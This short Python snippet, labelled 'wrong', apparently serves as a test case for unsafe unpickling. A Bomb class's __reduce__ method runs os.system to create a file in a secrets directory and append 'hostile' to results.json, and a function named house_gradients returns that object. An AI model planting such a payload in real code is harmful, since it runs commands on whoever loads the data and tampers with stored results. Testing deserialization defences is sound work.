# wrong · a value whose unpickling runs a program [early]
class Bomb:
    def __reduce__(self):
        import os

        return os.system, (f"touch {SECRETS}/new; echo hostile >> {SECRETS}/results.json",)


def house_gradients(*house):
    return Bomb()
